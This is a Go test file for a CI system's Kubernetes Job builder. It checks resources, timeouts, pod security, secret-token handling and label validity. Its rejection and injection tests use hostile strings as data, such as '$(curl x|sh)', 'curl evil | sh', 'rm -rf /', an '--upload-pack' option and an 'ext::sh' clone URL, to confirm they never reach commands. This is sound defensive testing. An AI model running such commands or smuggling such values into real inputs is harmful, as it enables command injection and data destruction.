package launch_test

import (
	"bytes"
	"errors"
	"flag"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/util/validation"
	psaapi "k8s.io/pod-security-admission/api"
	"k8s.io/pod-security-admission/policy"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/yaml"

	"github.com/yaci-ci/yaci/internal/launch"
	"github.com/yaci-ci/yaci/internal/repoconfig"
	"github.com/yaci-ci/yaci/internal/trigger"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// buildJob builds run's Job with o, failing the test on error.
func buildJob(t testing.TB, run trigger.Run, o launch.Options) *batchv1.Job {
	t.Helper()
	job, err := launch.BuildJob(run, o)
	if err != nil {
		t.Fatalf("BuildJob: %v", err)
	}

	return job
}

// container returns the named init or regular container of job's pod.
func container(t *testing.T, job *batchv1.Job, name string) corev1.Container {
	t.Helper()
	spec := job.Spec.Template.Spec
	for _, c := range append(slices.Clone(spec.InitContainers), spec.Containers...) {
		if c.Name == name {
			return c
		}
	}
	t.Fatalf("job %s has no container %q", job.Name, name)

	return corev1.Container{}
}

// envOf returns the container's variables as a map, failing the test when
// a name appears twice.
func envOf(t *testing.T, c corev1.Container) map[string]string {
	t.Helper()
	env := map[string]string{}
	for _, v := range c.Env {
		if _, dup := env[v.Name]; dup {
			t.Errorf("container %s lists %s twice", c.Name, v.Name)
		}
		env[v.Name] = v.Value
	}

	return env
}

func TestBuildJobGolden(t *testing.T) {
	for name, run := range map[string]trigger.Run{"push": pushRun(), "pull_request": prRun()} {
		t.Run(name, func(t *testing.T) {
			job := buildJob(t, run, testOptions)
			// The API server gives the UID; the golden file shows the
			// Secret as it would be created for a Job that got this one.
			made := job.DeepCopy()
			made.UID = "00000000-0000-4000-8000-000000000001"
			tok := trigger.Token{Value: "golden-token", ExpiresAt: time.Date(2026, 5, 4, 3, 2, 1, 0, time.UTC)}
			secret := launch.BuildSecret(run, tok, made, testOptions)

			var got bytes.Buffer
			for i, obj := range []any{job, secret} {
				b, err := yaml.Marshal(obj)
				if err != nil {
					t.Fatalf("marshal: %v", err)
				}
				if i > 0 {
					got.WriteString("---\n")
				}
				got.Write(b)
			}

			path := filepath.Join("testdata", name+".golden.yaml")
			if *update {
				if err := os.WriteFile(path, got.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("read golden file (run with -update to create it): %v", err)
			}
			if line, g, w := firstDiff(got.String(), string(want)); line > 0 {
				t.Errorf("%s differs at line %d (run with -update if intended):\n got: %s\nwant: %s",
					path, line, g, w)
			}
		})
	}
}

// firstDiff returns the first line (from 1) where got and want differ, and
// both versions of it; 0 when they are equal.
func firstDiff(got, want string) (int, string, string) {
	g, w := strings.Split(got, "\n"), strings.Split(want, "\n")
	for i := range max(len(g), len(w)) {
		var gl, wl string
		if i < len(g) {
			gl = g[i]
		}
		if i < len(w) {
			wl = w[i]
		}
		if gl != wl || i >= len(g) || i >= len(w) {
			return i + 1, gl, wl
		}
	}

	return 0, "", ""
}

func TestBuildJobShape(t *testing.T) {
	job := buildJob(t, pushRun(), testOptions)
	spec := job.Spec

	if job.Name != pushRun().Name() || job.Namespace != "yaci-runs" {
		t.Errorf("job is %s/%s, want yaci-runs/%s", job.Namespace, job.Name, pushRun().Name())
	}
	checks := []struct {
		what string
		ok   bool
	}{
		{"backoffLimit 0", ptr.Deref(spec.BackoffLimit, -1) == 0},
		{"suspended at creation", ptr.Deref(spec.Suspend, false)},
		{"ttl 1h", ptr.Deref(spec.TTLSecondsAfterFinished, 0) == 3600},
		{"restartPolicy Never", spec.Template.Spec.RestartPolicy == corev1.RestartPolicyNever},
		{"no service account token",
			!ptr.Deref(spec.Template.Spec.AutomountServiceAccountToken, true)},
		{"no service links", !ptr.Deref(spec.Template.Spec.EnableServiceLinks, true)},
	}
	for _, c := range checks {
		if !c.ok {
			t.Errorf("job spec: want %s", c.what)
		}
	}

	run := container(t, job, launch.RunContainer)
	wantCmd := []string{"sh", "-e", "-c", pushRun().Job.Run}
	if !slices.Equal(run.Command, wantCmd) || len(run.Args) != 0 {
		t.Errorf("run command = %q args %q, want %q", run.Command, run.Args, wantCmd)
	}
	if run.WorkingDir != "/workspace" || run.Image != "golang:1.26" {
		t.Errorf("run container: workingDir %q image %q", run.WorkingDir, run.Image)
	}
	if clone := container(t, job, launch.CloneContainer); clone.Image != launch.DefaultCloneImage {
		t.Errorf("clone image = %q, want %q", clone.Image, launch.DefaultCloneImage)
	}
}

func TestBuildJobTimeout(t *testing.T) {
	tests := []struct {
		name  string
		asked time.Duration
		o     launch.Options
		want  int64
	}{
		{"unset takes the default", 0, testOptions, 1200},
		{"set is kept", 45 * time.Minute, testOptions, 2700},
		{"longer than max is clamped", 5 * time.Hour, testOptions, 7200},
		{"fractions round up", 90*time.Second + time.Millisecond, testOptions, 91},
		{"server's own default", 0,
			launch.Options{Namespace: "x", DefaultTimeout: time.Minute}, 60},
		{"server's own cap", time.Hour,
			launch.Options{Namespace: "x", MaxTimeout: 10 * time.Minute}, 600},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			run := pushRun()
			run.Job.Timeout = tt.asked
			job := buildJob(t, run, tt.o)
			if got := ptr.Deref(job.Spec.ActiveDeadlineSeconds, 0); got != tt.want {
				t.Errorf("activeDeadlineSeconds = %d, want %d", got, tt.want)
			}
		})
	}
}

func TestBuildJobResources(t *testing.T) {
	tests := []struct {
		name        string
		asked       repoconfig.Resources
		o           launch.Options
		cpu, memory string
	}{
		{"from the job", repoconfig.Resources{CPU: "1500m", Memory: "3Gi"}, testOptions,
			"1500m", "3Gi"},
		{"defaults", repoconfig.Resources{}, testOptions, launch.DefaultCPU, launch.DefaultMemory},
		{"only cpu set", repoconfig.Resources{CPU: "3"}, testOptions, "3", launch.DefaultMemory},
		{"server defaults", repoconfig.Resources{},
			launch.Options{Namespace: "x", DefaultCPU: "250m", DefaultMemory: "1Gi"}, "250m", "1Gi"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			run := pushRun()
			run.Job.Resources = tt.asked
			job := buildJob(t, run, tt.o)
			for _, c := range []string{launch.CloneContainer, launch.RunContainer} {
				res := container(t, job, c).Resources
				for _, list := range []corev1.ResourceList{res.Requests, res.Limits} {
					if !list.Cpu().Equal(resource.MustParse(tt.cpu)) ||
						!list.Memory().Equal(resource.MustParse(tt.memory)) {
						t.Errorf("%s resources = %v, want cpu %s memory %s",
							c, list, tt.cpu, tt.memory)
					}
				}
			}
		})
	}
}

func TestBuildJobRejects(t *testing.T) {
	tests := []struct {
		name   string
		change func(*trigger.Run)
	}{
		{"short sha", func(r *trigger.Run) { r.Event.SHA = "0d1a2b3" }},
		{"upper-case sha", func(r *trigger.Run) { r.Event.SHA = strings.ToUpper(r.Event.SHA) }},
		{"sha with an option", func(r *trigger.Run) { r.Event.SHA = "--upload-pack=touch /tmp/x" }},
		{"ext transport", func(r *trigger.Run) { r.Event.Repo.CloneURL = "ext::sh -c touch% /tmp/x" }},
		{"file url", func(r *trigger.Run) { r.Event.Repo.CloneURL = "file:///etc" }},
		{"plain http", func(r *trigger.Run) { r.Event.Repo.CloneURL = "http://github.com/a/b.git" }},
		{"credentials in url", func(r *trigger.Run) {
			r.Event.Repo.CloneURL = "https://user:pw@github.com/a/b.git"
		}},
		{"no image", func(r *trigger.Run) { r.Job.Image = "" }},
		{"attempt zero", func(r *trigger.Run) { r.Attempt = 0 }},
		{"unknown event", func(r *trigger.Run) { r.Event.Kind = "issue_comment" }},
		{"pull request event without pr", func(r *trigger.Run) {
			r.Event.Kind = repoconfig.EventPullRequest
			r.Event.PullRequest = nil
		}},
		{"bad cpu", func(r *trigger.Run) { r.Job.Resources.CPU = "lots" }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			run := pushRun()
			tt.change(&run)
			job, err := launch.BuildJob(run, testOptions)
			if !errors.Is(err, launch.ErrInvalidRun) || job != nil {
				t.Errorf("BuildJob = %v, %v; want nil, ErrInvalidRun", job, err)
			}
		})
	}
}

// TestBuildJobReservedEnv checks that a job cannot override yaci's own
// variables, whatever repoconfig lets through.
func TestBuildJobReservedEnv(t *testing.T) {
	run := pushRun()
	run.Job.Env = []repoconfig.EnvVar{
		{Name: "FIRST", Value: "1"},
		{Name: "CI", Value: "false"},
		{Name: "HOME", Value: "/root"},
		{Name: "YACI_SHA", Value: "0000000000000000000000000000000000000000"},
		{Name: "YACI_EXTRA", Value: "mine"},
		{Name: "YACIFUL", Value: "kept"},
		{Name: "LAST", Value: "2"},
	}
	c := container(t, buildJob(t, run, testOptions), launch.RunContainer)
	env := envOf(t, c)

	want := map[string]string{
		"FIRST": "1", "LAST": "2", "CI": "true", "HOME": "/tmp", "YACIFUL": "kept",
		"YACI_SHA": run.Event.SHA,
	}
	for name, value := range want {
		if got, ok := env[name]; !ok || got != value {
			t.Errorf("%s = %q (set %v), want %q", name, got, ok, value)
		}
	}
	if _, ok := env["YACI_EXTRA"]; ok {
		t.Error("a job's YACI_ variable reached the container")
	}
	if c.Env[0].Name != "FIRST" || c.Env[1].Name != "YACIFUL" || c.Env[2].Name != "LAST" {
		t.Errorf("job variables do not come first, in order: %v", c.Env[:3])
	}
}

func TestBuildJobEventEnv(t *testing.T) {
	push := envOf(t, container(t, buildJob(t, pushRun(), testOptions), launch.RunContainer))
	pr := envOf(t, container(t, buildJob(t, prRun(), testOptions), launch.RunContainer))

	wantPush := map[string]string{
		"CI": "true", "YACI": "true", "HOME": "/tmp",
		"YACI_REPO": "yaci-ci/example", "YACI_SHA": pushRun().Event.SHA,
		"YACI_REF": "refs/heads/main", "YACI_BRANCH": "main", "YACI_EVENT": "push",
		"YACI_JOB": "unit", "YACI_RUN": pushRun().Name(), "YACI_DELIVERY": pushRun().Event.Delivery,
		"YACI_COMMIT_MESSAGE": pushRun().Event.Message, "GOFLAGS": "-mod=readonly",
	}
	wantPR := map[string]string{
		"YACI_EVENT": "pull_request", "YACI_REF": "refs/pull/42/head", "YACI_BRANCH": "main",
		"YACI_PR_NUMBER": "42", "YACI_PR_TITLE": prRun().Event.PullRequest.Title,
		"YACI_PR_HEAD_REF": "raw-strings", "YACI_RUN": prRun().Name(),
	}
	for _, tc := range []struct {
		name      string
		env, want map[string]string
		absent    []string
	}{
		{"push", push, wantPush, []string{"YACI_PR_NUMBER", "YACI_PR_TITLE", "YACI_PR_HEAD_REF"}},
		{"pull_request", pr, wantPR, []string{"YACI_COMMIT_MESSAGE"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for k, v := range tc.want {
				if tc.env[k] != v {
					t.Errorf("%s = %q, want %q", k, tc.env[k], v)
				}
			}
			for _, k := range tc.absent {
				if _, ok := tc.env[k]; ok {
					t.Errorf("%s is set for a %s", k, tc.name)
				}
			}
		})
	}
}

// TestBuildJobInjection builds Jobs from events whose every free-text field
// is hostile and checks where that text ends up: as the value of the
// variables and annotations meant for it, and nowhere else: not in a
// command, an argument, a label or a name.
func TestBuildJobInjection(t *testing.T) {
	const (
		branch  = "$(curl x|sh)"
		title   = "it's \"quoted\"\nsecond line; `id` $(id) ${HOME}'\\"
		headRef = "x;rm -rf /;'\"\n"
		message = "fix\n\n'; curl evil | sh; echo '\"$(id)\""
	)
	push := pushRun()
	push.Event.Branch = branch
	push.Event.Ref = "refs/heads/" + branch
	push.Event.Message = message
	pr := prRun()
	pr.Event.Branch = branch
	pr.Event.PullRequest.Title = title
	pr.Event.PullRequest.HeadRef = headRef

	runEnv := "spec.template.spec.containers[run].env"
	cloneEnv := "spec.template.spec.initContainers[clone].env"
	refPlaces := []string{
		runEnv + "[YACI_REF].value", cloneEnv + "[YACI_CLONE_REF].value",
		"metadata.annotations[yaci.dev/ref]",
	}
	tests := []struct {
		name    string
		run     trigger.Run
		payload string
		allowed []string
	}{
		{"push branch", push, branch, append([]string{
			runEnv + "[YACI_BRANCH].value", "metadata.annotations[yaci.dev/branch]",
		}, refPlaces...)},
		{"commit message", push, message, []string{runEnv + "[YACI_COMMIT_MESSAGE].value"}},
		{"pr base branch", pr, branch, []string{
			runEnv + "[YACI_BRANCH].value", "metadata.annotations[yaci.dev/branch]",
		}},
		{"pr title", pr, title, []string{runEnv + "[YACI_PR_TITLE].value"}},
		{"pr head ref", pr, headRef, []string{runEnv + "[YACI_PR_HEAD_REF].value"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			job := buildJob(t, tt.run, testOptions)
			obj, err := runtime.DefaultUnstructuredConverter.ToUnstructured(job)
			if err != nil {
				t.Fatal(err)
			}

			var found []string
			walkStrings("", obj, func(path, s string) {
				if strings.Contains(s, tt.payload) {
					found = append(found, path)
					if s != tt.payload && !strings.HasSuffix(path, "[YACI_REF].value") &&
						!strings.HasSuffix(path, "[YACI_CLONE_REF].value") &&
						!strings.HasSuffix(path, "[yaci.dev/ref]") {
						t.Errorf("%s holds the text with something added: %q", path, s)
					}
				}
			})
			slices.Sort(found)
			want := slices.Sorted(slices.Values(tt.allowed))
			if !slices.Equal(found, want) {
				t.Errorf("text found at\n  %s\nwant only at\n  %s",
					strings.Join(found, "\n  "), strings.Join(want, "\n  "))
			}
		})
	}
}

// walkStrings calls fn with every string in v and its path. Elements of a
// list of named objects (containers, env) are addressed by name.
func walkStrings(path string, v any, fn func(path, s string)) {
	switch v := v.(type) {
	case string:
		fn(path, v)
	case map[string]any:
		for k, e := range v {
			p := k
			if path != "" {
				p = path + "." + k
			}
			if strings.Contains(k, "/") {
				p = path + "[" + k + "]"
			}
			walkStrings(p, e, fn)
		}
	case []any:
		for i, e := range v {
			key := fmt.Sprint(i)
			if m, ok := e.(map[string]any); ok && m["name"] != nil {
				key = fmt.Sprint(m["name"])
			}
			walkStrings(path+"["+key+"]", e, fn)
		}
	}
}

// TestBuildJobRestricted checks the pod against the restricted Pod
// Security Standard with the admission plugin's own checks, and that those
// checks do catch a pod that breaks it.
func TestBuildJobRestricted(t *testing.T) {
	evaluator, err := policy.NewEvaluator(policy.DefaultChecks(), nil)
	if err != nil {
		t.Fatal(err)
	}
	restricted := psaapi.LevelVersion{
		Level: psaapi.LevelRestricted, Version: psaapi.LatestVersion(),
	}
	forbidden := func(tmpl corev1.PodTemplateSpec) []string {
		var why []string
		for _, r := range evaluator.EvaluatePod(restricted, &tmpl.ObjectMeta, &tmpl.Spec) {
			if !r.Allowed {
				why = append(why, r.ForbiddenReason+": "+r.ForbiddenDetail)
			}
		}
		return why
	}

	for name, run := range map[string]trigger.Run{"push": pushRun(), "pull_request": prRun()} {
		t.Run(name, func(t *testing.T) {
			tmpl := buildJob(t, run, testOptions).Spec.Template
			if why := forbidden(tmpl); len(why) > 0 {
				t.Errorf("pod breaks the restricted standard: %q", why)
			}

			broken := tmpl.DeepCopy()
			broken.Spec.InitContainers[0].SecurityContext.AllowPrivilegeEscalation = nil
			broken.Spec.SecurityContext.SeccompProfile = nil
			broken.Spec.Containers[0].SecurityContext.SeccompProfile = nil
			if why := forbidden(*broken); len(why) != 2 {
				t.Errorf("checks of a broken pod gave %q, want two violations", why)
			}
		})
	}
}

// TestBuildJobTokenMount checks that only the clone container sees the
// token, that its non-root uid can read it, and that nothing else can.
func TestBuildJobTokenMount(t *testing.T) {
	job := buildJob(t, pushRun(), testOptions)
	spec := job.Spec.Template.Spec

	var vol *corev1.SecretVolumeSource
	for _, v := range spec.Volumes {
		if v.Secret != nil {
			vol = v.Secret
		}
	}
	if vol == nil || vol.SecretName != launch.SecretName(pushRun()) {
		t.Fatalf("no volume of secret %s in %v", launch.SecretName(pushRun()), spec.Volumes)
	}
	mode := ptr.Deref(vol.DefaultMode, 0o644)
	if mode&0o040 == 0 || mode&0o007 != 0 || mode&0o222 != 0 {
		t.Errorf("token file mode %#o: want group-readable, read-only, nothing for others", mode)
	}

	psc := spec.SecurityContext
	clone := container(t, job, launch.CloneContainer)
	gid := ptr.Deref(clone.SecurityContext.RunAsGroup, -1)
	if ptr.Deref(psc.FSGroup, -2) != gid {
		t.Errorf("fsGroup %v is not the clone container's group %d", psc.FSGroup, gid)
	}
	if uid := ptr.Deref(clone.SecurityContext.RunAsUser, 0); uid == 0 {
		t.Error("clone container runs as root")
	}

	mounted := map[string]bool{}
	for _, c := range append(slices.Clone(spec.InitContainers), spec.Containers...) {
		for _, m := range c.VolumeMounts {
			if m.MountPath == "/var/run/yaci/clone" {
				mounted[c.Name] = m.ReadOnly
			}
		}
	}
	if len(mounted) != 1 || !mounted[launch.CloneContainer] {
		t.Errorf("token mounted in %v, want read-only in the clone container only", mounted)
	}
}

// TestBuildSecret checks the Secret's ownership, that the token is in it
// and nowhere in the Job, and that it says when the token expires.
func TestBuildSecret(t *testing.T) {
	const token = "ghs_TestTokenValue0123456789"
	run := pushRun()
	job := buildJob(t, run, testOptions)
	job.UID = "uid-1"
	expires := time.Date(2026, 5, 4, 3, 2, 1, 999, time.FixedZone("CEST", 2*60*60))
	secret := launch.BuildSecret(run, trigger.Token{Value: token, ExpiresAt: expires}, job, testOptions)

	if string(secret.Data[launch.SecretTokenKey]) != token {
		t.Errorf("secret holds %q, want the token", secret.Data[launch.SecretTokenKey])
	}
	refs := secret.OwnerReferences
	if len(refs) != 1 || refs[0].UID != "uid-1" || refs[0].Kind != "Job" ||
		refs[0].APIVersion != "batch/v1" || refs[0].Name != job.Name ||
		ptr.Deref(refs[0].Controller, true) || !ptr.Deref(refs[0].BlockOwnerDeletion, false) {
		t.Errorf("owner references = %+v", refs)
	}
	if secret.Namespace != job.Namespace || !ptr.Deref(secret.Immutable, false) {
		t.Errorf("secret %s/%s immutable=%v", secret.Namespace, secret.Name, secret.Immutable)
	}

	if got := secret.Annotations[launch.AnnotationTokenExpires]; got != "2026-05-04T01:02:01Z" {
		t.Errorf("token expires at %q, want 2026-05-04T01:02:01Z", got)
	}
	configured := launch.BuildSecret(run, trigger.Token{Value: token}, job, testOptions)
	if got := configured.Annotations[launch.AnnotationTokenExpires]; got != launch.NeverExpires {
		t.Errorf("a configured token expires at %q, want %q", got, launch.NeverExpires)
	}

	b, err := yaml.Marshal(job)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(b, []byte(token)) {
		t.Error("the token appears in the Job")
	}
}

// TestBuildJobLabels checks that every label is valid for any repository
// and job name, long or odd.
func TestBuildJobLabels(t *testing.T) {
	names := []struct{ owner, repo, job string }{
		{"yaci-ci", "example", "unit"},
		{"an-owner-with-a-name-near-the-limit-39", strings.Repeat("r", 100), strings.Repeat("j", 80)},
		{"o", "repo.with.dots_and_underscores", "Build & Test"},
		{"o", "-leading", "_x_"},
	}
	for _, n := range names {
		t.Run(n.repo, func(t *testing.T) {
			run := pushRun()
			run.Event.Repo.Owner, run.Event.Repo.Name, run.Job.Name = n.owner, n.repo, n.job
			job := buildJob(t, run, testOptions)
			for _, labels := range []map[string]string{job.Labels, job.Spec.Template.Labels} {
				for k, v := range labels {
					if errs := validation.IsQualifiedName(k); len(errs) > 0 {
						t.Errorf("label key %q: %v", k, errs)
					}
					if errs := validation.IsValidLabelValue(v); len(errs) > 0 {
						t.Errorf("label %s=%q: %v", k, v, errs)
					}
				}
			}
			if !maps.Equal(job.Labels, job.Spec.Template.Labels) {
				t.Errorf("pod labels %v differ from job labels %v",
					job.Spec.Template.Labels, job.Labels)
			}
			for k := range job.Annotations {
				if errs := validation.IsQualifiedName(k); len(errs) > 0 {
					t.Errorf("annotation key %q: %v", k, errs)
				}
			}
		})
	}
}

func BenchmarkBuildJob(b *testing.B) {
	run := prRun()
	for b.Loop() {
		if _, err := launch.BuildJob(run, testOptions); err != nil {
			b.Fatal(err)
		}
	}
}

func TestBuildJobParallel(t *testing.T) {
	run := pushRun()
	if _, ok := buildJob(t, run, testOptions).Annotations[launch.AnnotationMaxParallel]; ok {
		t.Error("a run without a limit carries the max-parallel annotation")
	}
	run.Parallel = 3
	if got := buildJob(t, run, testOptions).Annotations[launch.AnnotationMaxParallel]; got != "3" {
		t.Errorf("max-parallel annotation = %q, want 3", got)
	}
}
